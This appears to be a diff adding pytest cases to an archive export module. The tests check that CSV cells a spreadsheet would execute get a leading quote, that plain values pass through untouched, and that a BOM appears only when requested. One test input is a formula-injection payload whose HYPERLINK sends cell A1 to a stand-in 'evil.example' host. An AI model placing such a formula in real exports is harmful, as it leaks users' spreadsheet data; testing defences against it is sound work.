@@ -8,6 +8,8 @@ import json
 from collections.abc import AsyncIterator
 from typing import Any
 
+import pytest
+
 from archive.exports import COLUMNS, csv_lines, json_lines
 
 
@@ -49,3 +51,38 @@ async def test_json_export_is_one_valid_array_even_when_empty():
     assert json.loads("".join([c async for c in json_lines(cursor(0))])) == []
     exported = json.loads("".join([c async for c in json_lines(cursor(2))]))
     assert [r["submission_id"] for r in exported] == ["s-0", "s-1"]
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '=HYPERLINK("http://evil.example/?leak="&A1,"Open plan")',
+        "+SUM(1)",
+        "-2+3",
+        "@cmd",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+async def test_a_cell_a_spreadsheet_would_run_is_exported_with_a_leading_quote(cell: str):
+    async def one() -> AsyncIterator[dict[str, Any]]:
+        yield {**record(0), "title": cell, "organisation": cell}
+
+    text = "".join([chunk async for chunk in csv_lines(one())])
+    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert (row["title"], row["organisation"]) == ("'" + cell, "'" + cell)
+
+
+async def test_plain_text_numbers_and_inner_formula_signs_are_left_as_they_are():
+    async def one() -> AsyncIterator[dict[str, Any]]:
+        yield {**record(0), "title": "Net zero = 2050 @ Seoul", "organisation": "-0.25"}
+
+    text = "".join([chunk async for chunk in csv_lines(one())])
+    [row] = list(csv.DictReader(io.StringIO(text, newline="")))
+    assert (row["title"], row["organisation"]) == ("Net zero = 2050 @ Seoul", "-0.25")
+
+
+async def test_the_bom_comes_once_before_the_header_only_when_asked():
+    with_bom = "".join([chunk async for chunk in csv_lines(cursor(1), bom=True)])
+    without = "".join([chunk async for chunk in csv_lines(cursor(1))])
+    assert with_bom == "\ufeff" + without
